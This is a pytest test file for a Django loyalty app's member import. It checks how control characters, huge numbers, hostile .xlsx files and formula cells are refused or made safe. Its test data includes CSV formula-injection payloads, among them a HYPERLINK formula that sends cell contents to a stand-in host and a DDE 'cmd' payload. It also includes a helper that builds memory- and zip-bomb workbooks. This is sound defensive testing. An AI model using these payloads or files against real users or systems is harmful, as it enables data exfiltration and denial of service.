"""Bad input to the import (issue 25): a control character in a cell, a hostile .xlsx,
formulas in the error file. Each is a row error or a clear refusal, never a traceback
stored as the job's message, a 500, or the good rows lost."""

import csv
import io
import time
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from loyalty.imports.report import first_errors
from loyalty.models import ImportJob
from members.models import Member, Tag
from members.services import member_by_phone
from tests.loyalty.import_files import (
    HEADERS_ZH,
    phone,
    read_csv,
    run_import,
    run_import_unusable,
    write_csv,
    write_xlsx,
)

pytestmark = pytest.mark.django_db

ADD = reverse("admin:loyalty_importjob_add")
CONTROL = "control character"


# The admin's pages (and the import run from them) speak the merchant's language:
# the messages below are checked as a merchant reads them, in Chinese.


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def _errors(job) -> dict[int, list[tuple[str, str]]]:
    found = {}
    for e in first_errors(job, dry_run=job.dry_run, limit=1000):
        found.setdefault(e["line"], []).append((e["column"], e["message"]))
    return found


def _row(number: str, name: str = "", **cells) -> list[str]:
    row = [number, name, "", "", "", "", "", "", "", ""]
    for header, value in cells.items():
        row[HEADERS_ZH.index(header)] = value
    return row


def _upload(client, name: str, content: bytes, kind="members"):
    upload = SimpleUploadedFile(name, content, content_type="application/octet-stream")
    response = client.post(ADD, {"file": upload, "kind": kind})
    assert response.status_code == 302, response.content[:500]
    return ImportJob.objects.latest("pk")


def _run(client, job, what: str, capture) -> ImportJob:
    """The job page's button: queue the run; django-q2 runs import_job_task in tests."""
    url = reverse("admin:loyalty_importjob_run", args=[job.pk])
    data = {"run": what}
    if what == "dry":
        data.update({f"col_{i}": key for i, key in job.mapping.items()})
    with capture(execute=True):
        assert client.post(url, data).status_code == 302
    job.refresh_from_db()
    return job


# --- control characters ------------------------------------------------------------------


def test_a_nul_or_other_control_character_is_a_row_error_and_the_good_rows_go_in(tmp_path, store):
    """On PostgreSQL one NUL failed the whole job (exit 1, a traceback as its message);
    SQLite stored it. Now: a row error on both, the other rows imported, exit 0."""
    headers = [*HEADERS_ZH, "旧系统编号"]  # not a column of ours: ignored
    rows = [
        [*_row(phone(1), "好人"), "A\x00001"],  # a NUL in an ignored column: no matter
        [*_row(phone(2), "甲\x00乙"), "A\x00002"],
        [*_row(phone(3), "丙"), ""],
        [*_row(phone(4) + "\x00"), ""],
        [*_row(phone(5), "丁", 标签="常客\x1b"), ""],
        [*_row(phone(6), "戊", 积分="1\x7f0"), ""],
        [*_row(phone(7), "己\x85"), ""],  # a C1 control: mojibake, never meant
        [*_row(phone(8), "庚\x0c"), ""],
    ]
    path = write_csv(tmp_path / "m.csv", [headers, *rows])
    output, counts = run_import(path)  # exit 0: no CommandError
    assert counts == {"created": 2, "updated": 0, "unchanged": 0, "errors": 6}
    job = ImportJob.objects.get()
    assert job.status == ImportJob.Status.DONE
    errors = _errors(job)
    expected = {3: ("姓名", "U+0000"), 5: ("手机号", "U+0000"), 6: ("标签", "U+001B"),
                7: ("积分", "U+007F"), 8: ("姓名", "U+0085"), 9: ("姓名", "U+000C")}  # fmt: skip
    for line, (column, code) in expected.items():
        assert any(c == column and CONTROL in m and code in m for c, m in errors[line]), (
            line,
            errors.get(line),
        )
    assert sorted(Member.objects.values_list("name", flat=True)) == ["丙", "好人"]
    assert not Tag.objects.exists()
    # The error file gives the rows back, a control character shown as U+FFFD.
    back = read_csv(job.error_file.path, "utf-8-sig")
    assert back[0][0] == "错误原因" and len(back) == 7
    assert back[1][2] == "甲\ufffd乙" and back[1][-1] == "A\ufffd002"
    assert "\x00" not in Path(job.error_file.path).read_text(encoding="utf-8-sig")


def test_an_xlsx_cell_with_a_control_character_is_a_row_error_through_the_admin(
    owner_client, store, tmp_path, django_capture_on_commit_callbacks
):
    path = write_xlsx(
        tmp_path / "m.xlsx",
        [["手机号", "姓名", "备注"], [phone(1), "甲", "好"], [phone(2), "乙\x85丙", "坏\x9f"]],
    )
    job = _upload(owner_client, "m.xlsx", path.read_bytes())
    assert job.status == ImportJob.Status.UPLOADED
    job = _run(owner_client, job, "import", django_capture_on_commit_callbacks)
    assert job.status == ImportJob.Status.DONE, job.message
    assert job.counts() == {"created": 1, "updated": 0, "unchanged": 0, "errors": 1}
    assert [(c, "U+0085" in m) for c, m in _errors(job)[3]] == [("姓名", True), ("备注", False)]
    errors = owner_client.get(reverse("admin:loyalty_importjob_errors", args=[job.pk]))
    sheet = load_workbook(io.BytesIO(b"".join(errors.streaming_content))).active
    assert [c.value for c in sheet[2]][1:] == [phone(2), "乙\ufffd丙", "坏\ufffd"]


def test_a_control_character_in_a_header_or_the_file_name_does_not_break_the_upload(
    owner_client, store
):
    content = f"手机号\x00,姓名\x01\r\n{phone(1)},甲\r\n".encode()
    job = _upload(owner_client, "m\x07.csv", content)
    assert job.status == ImportJob.Status.UPLOADED
    assert job.headers == ["手机号", "姓名"] and job.file_name == "m.csv"
    assert job.mapping == {"0": "phone", "1": "name"}


def test_a_number_of_five_thousand_digits_is_a_row_error_not_a_failed_job(tmp_path, store):
    """int() of more than 4,300 digits raises ValueError; 1e300000 took seconds to make."""
    rows = [
        _row(phone(1), "甲", 积分="9" * 5000),
        _row(phone(2), "乙", 积分="1e300000"),
        _row(phone(3), "丙", 积分="12"),
    ]
    started = time.monotonic()
    _output, counts = run_import(write_csv(tmp_path / "m.csv", [HEADERS_ZH, *rows]))
    assert time.monotonic() - started < 3
    assert counts == {"created": 1, "updated": 0, "unchanged": 0, "errors": 2}
    errors = _errors(ImportJob.objects.get())
    assert "Too large" in errors[2][0][1] and "Too large" in errors[3][0][1]


# --- the error file: formulas stay text ------------------------------------------------


FORMULAS = ['=HYPERLINK("http://x.example/?"&A2,"点我")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)", "\tx", "=1+1"]  # fmt: skip


def test_the_error_file_guards_formulas_as_the_export_does_and_imports_back(tmp_path, store):
    rows = [_row("123", name) for name in FORMULAS[:5]]  # a bad phone: refused
    rows.append(_row(phone(9), FORMULAS[5], 积分="-5"))  # negative: refused
    path = write_csv(tmp_path / "m.csv", [HEADERS_ZH, *rows])
    _output, counts = run_import(path)
    assert counts["errors"] == 6
    job = ImportJob.objects.get()
    back = read_csv(job.error_file.path, "utf-8-sig")
    names = [row[2] for row in back[1:]]
    assert names == ["'" + name for name in FORMULAS]
    assert back[-1][5] == "'-5"
    for row in back[1:]:  # no cell starts as a formula
        assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for cell in row)

    # Fixed there (the phones, the points), the file imports back as it was written.
    for n, row in enumerate(back[1:]):
        row[1] = phone(20 + n)
        row[5] = "5" if row[5] else ""
    fixed = write_csv(tmp_path / "fixed.csv", back)
    _output, counts = run_import(fixed)
    assert counts == {"created": 6, "updated": 0, "unchanged": 0, "errors": 0}
    imported = [member_by_phone(phone(20 + n)).name for n in range(6)]
    assert imported == [name.strip() for name in FORMULAS]


# --- a hostile .xlsx -------------------------------------------------------------------

SML = "application/vnd.openxmlformats-officedocument.spreadsheetml"
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    f'<Override PartName="/xl/workbook.xml" ContentType="{SML}.sheet.main+xml"/>'
    f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{SML}.worksheet+xml"/>'
    f'<Override PartName="/xl/sharedStrings.xml" ContentType="{SML}.sharedStrings+xml"/>'
    "</Types>"
)
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Type="{R}/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
WORKBOOK = (
    f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{MAIN}" xmlns:r="{R}">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Type="{R}/worksheet" Target="worksheets/sheet1.xml"/>'
    f'<Relationship Id="rId2" Type="{R}/sharedStrings" Target="sharedStrings.xml"/>'
    "</Relationships>"
)


def _letters(n: int) -> str:
    name = ""
    while n:
        n, rest = divmod(n - 1, 26)
        name = chr(65 + rest) + name
    return name


class Number(str):
    """A number cell's text as written in the sheet (a number no int() reads, say)."""


def hostile_xlsx(
    path: Path,
    rows: list[list],
    *,
    strings: list[str],
    declared: bool = True,
    padding: int = 0,
) -> Path:
    """An .xlsx written by hand: rows of cells, a str an index into `strings` (written as
    the table of texts whatever the rows use), other values as numbers."""
    texts = {s: i for i, s in enumerate(strings)}
    sheet = [f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{MAIN}"><sheetData>']
    for r, row in enumerate(rows, start=1):
        sheet.append(f'<row r="{r}">')
        for c, value in enumerate(row, start=1):
            ref = f"{_letters(c)}{r}"
            if isinstance(value, str) and not isinstance(value, Number):
                sheet.append(f'<c r="{ref}" t="s"><v>{texts[value]}</v></c>')
            else:
                sheet.append(f'<c r="{ref}"><v>{value}</v></c>')
        sheet.append("</row>")
    sheet.append("</sheetData></worksheet>")
    count = f' count="{len(strings)}" uniqueCount="{len(strings)}"' if declared else ""
    table = [f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN}"{count}>']
    table.extend(f"<si><t>{s}</t></si>" for s in strings)
    table.append("</sst>")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr("[Content_Types].xml", CONTENT_TYPES)
        book.writestr("_rels/.rels", ROOT_RELS)
        book.writestr("xl/workbook.xml", WORKBOOK)
        book.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        book.writestr("xl/worksheets/sheet1.xml", "".join(sheet))
        book.writestr("xl/sharedStrings.xml", "".join(table))
        if padding:
            book.writestr("xl/media/padding.bin", b"\0" * padding)
    return path


HEADER = ["手机号", "姓名"]


def _filler(n: int) -> list[str]:
    return [f"t{i}" for i in range(n)]


def test_the_upload_reads_an_xlsx_header_itself_and_openpyxl_only_in_the_run(
    owner_client, store, tmp_path, django_capture_on_commit_callbacks, monkeypatch
):
    """openpyxl reads the whole table of texts before a row: never in the request. The
    upload's own reader finds the header openpyxl finds (a title line above it)."""
    import openpyxl

    opened = []
    load = openpyxl.load_workbook
    monkeypatch.setattr(
        openpyxl, "load_workbook", lambda *a, **k: opened.append(1) or load(*a, **k)
    )
    rows = [["会员名单"], [], HEADER, [13800000001, "甲"], [13800000002, "乙"]]
    path = hostile_xlsx(tmp_path / "m.xlsx", rows, strings=["会员名单", *HEADER, "甲", "乙"])
    job = _upload(owner_client, "m.xlsx", path.read_bytes())
    assert (job.status, job.header_line, job.headers) == (ImportJob.Status.UPLOADED, 3, HEADER)
    assert not opened
    job = _run(owner_client, job, "import", django_capture_on_commit_callbacks)
    assert job.status == ImportJob.Status.DONE, job.message
    assert opened and (job.header_line, job.headers) == (3, HEADER)
    assert job.counts()["created"] == 2


def test_a_table_of_texts_over_the_limit_is_refused_at_the_upload(
    owner_client, store, tmp_path, settings
):
    settings.IMPORT_XLSX_MAX_STRINGS = 1000
    strings = [*HEADER, "甲", *_filler(3000)]
    # A sheet that uses them all: over the limit, not merely more than it uses.
    rows = [HEADER, [13800000001, "甲"], *([s] for s in strings[3:])]
    path = hostile_xlsx(tmp_path / "m.xlsx", rows, strings=strings)
    job = _upload(owner_client, "m.xlsx", path.read_bytes())
    assert job.status == ImportJob.Status.FAILED
    assert "包含 3,003 个不同的文本" in job.message and "1,000" in job.message
    assert "CSV" in job.message
    page = owner_client.get(reverse("admin:loyalty_importjob_change", args=[job.pk]))
    assert page.status_code == 200


def test_millions_of_texts_behind_a_small_sheet_are_refused_at_once(owner_client, store, tmp_path):
    """The review's file: 827 KB compressed, 3 million texts, one sheet of a few rows,
    parsed whole in the request (34 s, 660 MB). Here 200,000 texts, the default limits:
    refused from the table's first tag, without reading the table."""
    strings = [*HEADER, "甲", *_filler(200_000)]
    path = hostile_xlsx(tmp_path / "m.xlsx", [HEADER, [13800000001, "甲"]], strings=strings)
    assert path.stat().st_size < 1_000_000
    started = time.monotonic()
    job = _upload(owner_client, "m.xlsx", path.read_bytes())
    assert time.monotonic() - started < 2
    assert job.status == ImportJob.Status.FAILED
    assert "超出其工作表可能用到的数量" in job.message


def test_a_table_that_does_not_say_its_size_is_counted_by_the_run_not_the_upload(
    owner_client, store, tmp_path, settings, django_capture_on_commit_callbacks
):
    """The upload reads the header's texts only (the first of the table); the run counts
    the table before openpyxl reads it, and refuses it: a failed job with the reason,
    exit status 2 from the command."""
    strings = [*HEADER, "甲", *_filler(50_000)]
    path = hostile_xlsx(
        tmp_path / "m.xlsx", [HEADER, [13800000001, "甲"]], strings=strings, declared=False
    )
    settings.IMPORT_XLSX_PEEK_BYTES = 256 * 1024  # the table is ~0.9 MB: never read whole
    job = _upload(owner_client, "m.xlsx", path.read_bytes())
    assert (job.status, job.headers) == (ImportJob.Status.UPLOADED, HEADER)
    job = _run(owner_client, job, "dry", django_capture_on_commit_callbacks)
    assert job.status == ImportJob.Status.FAILED
    assert "超出其工作表可能用到的数量" in job.message
    assert "Traceback" not in job.message
    assert "larger than its sheets could use" in run_import_unusable(path)


def test_a_header_far_into_the_table_is_refused_within_the_uploads_bounds(
    owner_client, store, tmp_path, settings
):
    strings = [*_filler(30_000), *HEADER, "甲"]  # the header's texts last
    rows = [HEADER, [13800000001, "甲"], *([s] for s in strings[:-3])]
    path = hostile_xlsx(tmp_path / "m.xlsx", rows, strings=strings)
    settings.IMPORT_XLSX_PEEK_BYTES = 128 * 1024
    job = _upload(owner_client, "m.xlsx", path.read_bytes())
    assert job.status == ImportJob.Status.FAILED
    assert "以内读取该工作簿的前几行" in job.message and "0 MB" not in job.message


def test_the_upload_gives_up_on_an_xlsx_after_its_time(owner_client, store, tmp_path, settings):
    path = write_xlsx(tmp_path / "m.xlsx", [HEADER, [phone(1), "甲"]])
    settings.IMPORT_XLSX_PEEK_SECONDS = 0
    job = _upload(owner_client, "m.xlsx", path.read_bytes())
    assert job.status == ImportJob.Status.FAILED
    assert "无法在 0 秒" in job.message


def test_an_xlsx_that_unpacks_too_big_is_refused_from_its_directory(tmp_path, store, settings):
    settings.IMPORT_XLSX_MAX_BYTES = 1 << 20
    path = hostile_xlsx(
        tmp_path / "m.xlsx", [HEADER, [13800000001, "甲"]], strings=[*HEADER, "甲"],
        padding=4 << 20,
    )  # fmt: skip
    assert path.stat().st_size < 100_000
    said = run_import_unusable(path)
    assert "unpacks to 4 MB" in said and "(1 MB)" in said


def test_a_cell_openpyxl_cannot_read_fails_the_file_with_a_reason_not_a_traceback(tmp_path, store):
    """openpyxl stops at a number of 5,000 digits (int() refuses it): exit 2, the row said."""
    rows = [HEADER, [13800000001, "甲"], [13800000002, Number("9" * 5000)]]
    path = hostile_xlsx(tmp_path / "m.xlsx", rows, strings=[*HEADER, "甲"])
    said = run_import_unusable(path)
    assert "Row 3 of the workbook cannot be read" in said
    job = ImportJob.objects.get()
    assert job.status == ImportJob.Status.FAILED and "Traceback" not in job.message
    assert not Member.objects.exists()  # the pre-pass read the file before any write


def test_the_export_guard_is_one_function(tmp_path):
    """The export and the error file share report.safe_text (not two copies)."""
    from loyalty.imports import exports, report

    assert exports.safe_text is report.safe_text
    out = io.StringIO()
    csv.writer(out).writerow([report.safe_text(v) for v in FORMULAS])
    assert all(cell.startswith("'") for cell in next(csv.reader(io.StringIO(out.getvalue()))))
